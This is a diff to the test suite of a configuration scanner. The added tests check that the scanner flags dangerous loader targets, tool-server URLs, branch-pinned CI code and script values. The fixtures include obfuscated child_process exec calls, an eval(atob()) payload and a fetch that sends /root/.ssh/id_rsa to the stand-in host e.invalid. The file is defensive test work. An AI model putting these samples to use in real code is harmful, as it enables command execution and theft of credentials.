@@ -80,8 +80,14 @@ def list_references(reading):
             "logging: {driver: gelf, options: {gelf-address: udp://e.invalid:12201}}\n",
             ("sends-to", "e.invalid"),
         ),
+        ("a.yml", "spec: {predictor: {model: {storageUri: s3://b/m}}}\n", ("served", "s3://b/m")),
+        ("a.yml", "spec: {initContainers: [{args: ['gs://b/m', /mnt]}]}\n", ("served", "gs://b/m")),
+        ("mcp.json", '{"servers": {"a": {"url": "https://e.invalid/sse"}}}', ("tool-server", "e.invalid")),
+        ("a.yaml", "mcpServers:\n  a: {type: http, url: 'https://e.invalid'}\n", ("tool-server", "e.invalid")),
         ("a.yml", "base_model: a/b\nplugins:\n- own.boot.Boot\n", ("target", "own.boot.Boot")),
         ("a.yml", "steps:\n- step: {type_info: {module: os, name: system}}\n", ("target", "os.system")),
+        ("a.json", '{"a": {"@module": "torch.hub", "@class": "load"}}', ("target", "torch.hub.load")),
+        ("a.json", '{"@module": "a", "@class": "b.Chain"}', ("class", "b.Chain")),
         ("a.json", json.dumps([{"content": "import os\nos.system('x')\nclass Tools: pass\n"}]), ("call", "os.system")),
         (
             ".github/workflows/a.yml",
@@ -143,7 +149,12 @@ def test_configuration_classes_commands_tags_and_switches_on_which_a_loader_acts
         ("a.yaml", "backbone: resnet50\npretrained: true\nmodel: yolo.pt\nname_or_path: a/b\n"),
         ("a.yml", "action_endpoint:\n  url: http://localhost:5055/webhook\nnlg: {url: http://nlg:1/x}\n"),
         ("a.yml", "action_endpoint: {url: http://10.0.0.5:5055/webhook}\nlogger: {url: file.log}\n"),
-        ("a.yml", "tracking_uri: https://dagshub.com/a/b.mlflow\ntracker_store: {url: mongo.internal}\n"),
+        ("a.yml", "tracker_store: {url: mongo.internal}\n"),
+        ("a.yml", "spec: {predictor: {model: {storageUri: 'pvc://b/m'}}}\nother: {storage_uri: hf://a/b}\n"),
+        ("mcp.json", '{"servers": {"a": {"url": "http://localhost:3000/mcp"}, "b": {"url": "https://hf.co/mcp"}}}'),
+        ("a.json", json.dumps({"nodes": [{"jsCode": "const t = require('./t');\nreturn t.map((x) => x.spawn());"}]})),
+        ("a.json", json.dumps([{"code": "require('child_process').exec('ls')", "label": "unsafe"}])),
+        ("package.json", json.dumps({"scripts": {"b": "node -e 'require(`child_process`).exec(`tsc`)'"}})),
         ("a.yml", "base_model: a/b\nplugins:\n- axolotl.integrations.liger.LigerPlugin\n"),
         ("a.yml", "plugins:\n- own.boot.Boot\n"),
         ("Modelfile", "FROM llama3:8b\nFROM someone/llama3\n"),
@@ -151,6 +162,67 @@ def test_configuration_classes_commands_tags_and_switches_on_which_a_loader_acts
 )
 def test_ordinary_configuration_values_give_no_mentions(read_bytes, path, text):
     assert list_mentions(read_bytes(text.encode(), path)) == []
+
+
+@check_each(
+    "path, text",
+    [
+        ("a.json", json.dumps({"nodes": [{"jsCode": "const p = require('child_' + 'process');\np.exec('id')"}]})),
+        ("a.json", json.dumps({"nodes": [{"code": "require('\\x63hild_process')['exec']('id')"}]})),
+        ("a.json", json.dumps({"func": "require(['child', 'process'].join('_')).execSync('id')"})),
+        ("a.json", json.dumps({"nodes": [{"code": "eval(atob('YQ=='))"}]})),
+        ("a.yaml", "assert:\n- {type: javascript, value: 'process.binding(\"spawn_sync\").spawn(x)'}\n"),
+        (
+            "a.json",
+            json.dumps({"func": "fetch('https://e.invalid', {body: require('fs').readFileSync('/root/.ssh/id_rsa')})"}),
+        ),
+    ],
+)
+def test_value_that_is_a_script_which_starts_programs_or_sends_secrets_is_mentioned(read_bytes, path, text):
+    assert "script-value" in {use for use, _ in list_mentions(read_bytes(text.encode(), path))}
+
+
+_STEP = "jobs: {a: {steps: [{uses: %s}]}}\n"
+_HOOK = "repos: [{repo: 'https://github.com/stranger/hooks', rev: %s, hooks: [{id: a}]}]\n"
+_PIN = "0123456789abcdef0123456789abcdef01234567"
+
+
+@check_each(
+    "path, text, owner",
+    [
+        (".github/workflows/a.yml", _STEP % "stranger/setup@main", "https://github.com/stranger"),
+        (".github/workflows/a.yml", _STEP % "stranger/tools/setup@fast", "https://github.com/stranger"),
+        (".pre-commit-config.yaml", _HOOK % "master", "https://github.com/stranger"),
+        (".gitlab-ci.yml", "include: [{remote: 'https://ci.e.invalid/team/a.yml'}]\n", "https://ci.e.invalid/team"),
+        (".gitlab-ci.yml", "include: 'https://ci.e.invalid/team/a.yml'\n", "https://ci.e.invalid/team"),
+        (
+            "compose.yaml",
+            "services: {a: {build: 'https://git.e.invalid/team/x.git#main'}}\n",
+            "https://git.e.invalid/team",
+        ),
+        (".devcontainer/devcontainer.json", '{"features": {"ghcr.io/stranger/a/b:1": {}}}', "https://ghcr.io/stranger"),
+    ],
+)
+def test_code_that_a_tool_fetches_from_a_branch_is_mentioned_by_its_owner(read_bytes, path, text, owner):
+    assert ("moving", owner) in list_mentions(read_bytes(text.encode(), path))
+
+
+@check_each(
+    "path, text",
+    [
+        (".github/workflows/a.yml", _STEP % "stranger/setup@v4"),
+        (".github/workflows/a.yml", _STEP % f"stranger/setup@{_PIN}"),
+        (".github/workflows/a.yml", _STEP % "./.github/actions/own"),
+        (".pre-commit-config.yaml", _HOOK % "v1.2.3"),
+        (".pre-commit-config.yaml", "repos: [{repo: local, hooks: [{id: a}]}]\n"),
+        (".gitlab-ci.yml", "include: [{local: /a.yml}]\n"),
+        ("compose.yaml", "services: {a: {build: {context: .}}}\n"),
+        ("compose.yaml", f"services: {{a: {{build: 'https://git.e.invalid/team/x.git#{_PIN}'}}}}\n"),
+        (".devcontainer/devcontainer.json", '{"features": {"ghcr.io/stranger/a/b@sha256:%s": {}}}' % ("a" * 64)),
+    ],
+)
+def test_code_at_a_release_a_commit_or_in_the_repository_itself_is_no_moving_source(read_bytes, path, text):
+    assert "moving" not in {use for use, _ in list_mentions(read_bytes(text.encode(), path))}
 
 
 @check_each(
@@ -182,6 +254,8 @@ def test_workflow_that_runs_no_text_of_a_stranger_and_sends_no_secret_away_is_no
         ("data_files: {train: a/*.json}\n", 0, set()),
         ("feats: 'ark,s,cs:./run x |'\n", 1, {"configuration/started-program"}),
         ("feats: 'scp:feats.scp'\n", 0, set()),
+        ("tracking_uri: https://dagshub.com/a/b.mlflow\n", 0, set()),
+        ("tracking_uri: https://dagshub.com.e.invalid/a\n", 3, {"configuration/sends-elsewhere"}),
     ],
 )
 def test_tag_pipe_or_path_of_a_configuration_is_judged_by_what_a_loader_makes_of_it(tmp_path, text, code, rules):
@@ -965,3 +1039,12 @@ def test_key_of_an_index_of_members_asks_for_a_callable_only_by_its_bare_name(re
     assert ("value", "os.system") in list_mentions(
         read_bytes(json.dumps(index | {"a_handler": "os.system"}).encode(), "a.json")
     )
+
+
+@pytest.mark.slow
+def test_setting_behind_a_vocabulary_with_an_object_for_each_token_is_collected():
+    rows = ",".join(['{"rank":1,"token_bytes":"AA==","token_str":"abcdefgh"}'] * 150_000)
+    text = f'{{"vocab":[{rows}],"layer":{{"_target_":"os.system"}}}}'
+    found, error = document_settings.collect_json_settings((text,), Limits())
+    assert error is None
+    assert (found[-1].path, found[-1].value) == (("layer", "_target_"), "os.system")
